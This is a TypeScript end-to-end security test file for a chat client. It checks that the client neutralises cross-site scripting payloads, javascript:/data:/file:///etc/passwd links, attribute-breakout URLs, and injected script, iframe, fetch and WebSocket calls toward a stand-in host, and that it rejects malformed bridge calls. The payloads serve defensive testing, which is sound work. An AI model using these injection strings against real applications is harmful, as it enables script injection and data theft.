/** A hostile colleague, hostile pages and hostile calls, against the window on each host and a real gateway. */
import { describe, expect, test } from "vitest";
import { ClientProcess } from "../support/client-process.ts";
import { addressOf, passwordOf } from "../support/gateway-process.ts";
import type { HostKind } from "../support/host.ts";
import { HOSTS, launchHost, newProfile, titleOf } from "../support/host.ts";
import type { Host } from "../support/host-page.ts";
import { breaches } from "../support/inspect.ts";
import { invoke, invokeRaw, tlsServer } from "../support/page-bridge.ts";
import { HOSTILE } from "../support/sample-office.ts";

const TIMEOUT = 300_000;
const LINKS = [
  "javascript:window.breached=true",
  "data:text/html,<script>opener.breached=true</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
  "app://hallway/index.html",
  'https://elsewhere.example/"onmouseover="window.breached=true',
];

/** What a script in the page might try, and the part of the policy that refuses it. */
const ATTEMPTS = [
  { attempt: addElement("script", { textContent: "globalThis.breached = true" }), directive: "script-src-elem" },
  { attempt: addElement("script", { src: "https://elsewhere.example/x.js" }), directive: "script-src-elem" },
  { attempt: `document.body.setAttribute("onclick", "globalThis.breached = true")`, directive: "script-src-attr" },
  { attempt: addElement("style", { textContent: "body { display: none }" }), directive: "style-src-elem" },
  { attempt: addElement("img", { src: "https://elsewhere.example/x.png" }), directive: "img-src" },
  { attempt: addElement("iframe", { src: "https://elsewhere.example/" }), directive: "frame-src" },
  { attempt: addElement("iframe", { src: "/" }), directive: "frame-src" },
  { attempt: addElement("object", { data: "/" }), directive: "object-src" },
  { attempt: `void fetch("https://elsewhere.example/").catch(() => undefined)`, directive: "connect-src" },
  { attempt: `void new WebSocket("wss://elsewhere.example/")`, directive: "connect-src" },
  {
    attempt: `(${addElement("form", { action: "https://elsewhere.example/" })}, document.forms[0].submit())`,
    directive: "form-action",
  },
  { attempt: addElement("base", { href: "https://elsewhere.example/" }), directive: "base-uri" },
];

function addElement(name: string, properties: Readonly<Record<string, string>>): string {
  return `document.body.append(Object.assign(document.createElement("${name}"), ${JSON.stringify(properties)}))`;
}

interface Attacked {
  readonly host: Host;
  readonly mallory: ClientProcess;
}

/** Ines' office on the host, with Mallory, whose name is an attack already, signed in from elsewhere. */
async function attackedOffice(kind: HostKind): Promise<Attacked> {
  const host = await launchHost(kind, await newProfile());
  const { page } = host;
  const people = [
    { address: addressOf("ines"), password: passwordOf("ines"), administrator: true },
    { address: addressOf("mallory"), password: passwordOf("mallory"), name: HOSTILE.image },
  ];
  const office = await invoke(page, "gateway.start", { domain: "acme.example", people });
  const { fingerprint = "" } = office;
  const server = tlsServer(office);
  await invoke(page, "account.signIn", {
    address: addressOf("ines"),
    password: passwordOf("ines"),
    server,
    trust: fingerprint,
  });
  const mallory = ClientProcess.start("mallory");
  await mallory.do("account.signIn", {
    address: mallory.address,
    password: passwordOf("mallory"),
    server,
    trust: fingerprint,
  });
  return { host, mallory };
}

/** Nothing of the attack runs, is fetched, or becomes a part of the page. */
async function expectHarmless({ page, complaints }: Host): Promise<void> {
  expect(await page.evaluate("globalThis.breached")).toBeUndefined();
  expect(
    await page.locator("img, iframe, object, embed, svg script, main script, [onerror], [onmouseover]").count(),
  ).toBe(0);
  expect(await breaches(page)).toEqual([]);
  expect(complaints).toEqual([]);
}

describe.each(HOSTS.map((host) => ({ ...host, title: titleOf(host) })))("$title", ({ kind, missing }) => {
  const options = { timeout: TIMEOUT, skip: missing !== undefined };

  test("names, notes and messages are text, whatever stands in them", options, async () => {
    const { host, mallory } = await attackedOffice(kind);
    const { page } = host;
    await invoke(page, "contact.add", {
      address: mallory.address,
      name: HOSTILE.script,
      groups: [HOSTILE.image],
      note: HOSTILE.image,
    });
    await mallory.do("presence.set", { state: "busy", note: HOSTILE.image });
    for (const text of [...Object.values(HOSTILE), LINKS.join(" ")]) {
      await mallory.do("message.send", { to: addressOf("ines"), text });
    }
    await page.getByRole("treeitem", { name: HOSTILE.script }).first().click();
    await page
      .getByRole("article")
      .filter({ hasText: LINKS[0] ?? "" })
      .last()
      .waitFor();
    for (const text of Object.values(HOSTILE)) await page.getByText(text, { exact: true }).first().waitFor();
    await expectHarmless(host);
    const links = await page
      .getByRole("link")
      .evaluateAll((all) => (all as { href?: string }[]).map(({ href }) => href));
    expect(links).toEqual(["https://elsewhere.example/%22onmouseover=%22window.breached=true"]);
    await page.getByRole("button", { name: "Settings" }).click();
    await page.getByRole("button", { name: "Office here" }).click();
    await page.getByText(HOSTILE.image).first().waitFor();
    await expectHarmless(host);
  });

  test("a link of a message opens outside, and the window stays where it is", options, async () => {
    const { host, mallory } = await attackedOffice(kind);
    const { page } = host;
    await mallory.do("message.send", { to: addressOf("ines"), text: "look: https://elsewhere.example/plans" });
    await page.getByRole("treeitem", { name: mallory.address }).first().click();
    await page.getByRole("link", { name: "https://elsewhere.example/plans" }).click();
    await expect.poll(() => host.openedOutside.length).toBe(1);
    if (kind !== "browser") expect(host.openedOutside).toEqual(["https://elsewhere.example/plans"]);
    expect(new URL(page.url()).origin).toBe(host.origin);
    await expect.poll(() => page.context().pages().length).toBe(1);
  });

  test("the page runs under the policy that it was served with", options, async () => {
    const { page } = await launchHost(kind, await newProfile());
    const response = await page.reload();
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self';/u);
    expect(policy).not.toContain("unsafe");
    await page.locator("main").first().waitFor();
    expect(await breaches(page)).toEqual([]);
  });

  test("a page that was taken over gets nothing in, nothing out, and nowhere", options, async () => {
    const { page, origin } = await launchHost(kind, await newProfile());
    for (const { attempt, directive } of ATTEMPTS) {
      await page.evaluate(attempt);
      const refused = async (): Promise<unknown> => (await breaches(page)).map((breach) => breach.split(" ")[0]);
      await expect.poll(refused, { message: attempt }).toContain(directive);
    }
    expect(await page.evaluate("globalThis.breached")).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(origin);
  });

  test("calls that are none are refused, and the next one is answered", options, async () => {
    const { page } = await launchHost(kind, await newProfile());
    const refusals = [
      ["no.such.command", {}, "unknown-command"],
      ["__proto__", {}, "unknown-command"],
      ["constructor", {}, "unknown-command"],
      [["session.open"], {}, "unknown-command"],
      [null, null, "unknown-command"],
      ["message.send", {}, "bad-arguments"],
      ["message.send", { to: 7, text: "x" }, "bad-arguments"],
      ["message.send", { to: "a@b.example", text: "x", extra: true }, "bad-arguments"],
      ["message.send", "text", "bad-arguments"],
      ["message.send", { to: "a@b.example", text: "x".repeat(20_001) }, "bad-arguments"],
      ["settings.set", { theme: "url(https://elsewhere.example/)" }, "bad-arguments"],
    ] as const;
    for (const [name, args, code] of refusals)
      expect(await invokeRaw(page, name, args), String(name)).toMatchObject({ ok: false, code });
    expect(await invokeRaw(page, "message.send", { to: "a@b.example", text: "x".repeat(1_000_000) })).toMatchObject({
      ok: false,
    });
    await expect.poll(() => invokeRaw(page, "gateway.status", {})).toMatchObject({ ok: true });
  });

  test("the page holds the bridge and nothing else, and cannot change it", options, async () => {
    const { page } = await launchHost(kind, await newProfile());
    expect(
      await page.evaluate("[typeof require, typeof process, typeof module, typeof Buffer, typeof global]"),
    ).toEqual(Array.from({ length: 5 }, () => "undefined"));
    expect(await page.evaluate("Object.keys(hallway).sort()")).toEqual(["invoke", "subscribe"]);
    expect(await page.evaluate("Object.isFrozen(hallway)")).toBe(true);
    expect(
      await page.evaluate("(() => { try { window.hallway = 1; } catch {} return typeof window.hallway; })()"),
    ).toBe("object");
  });
});
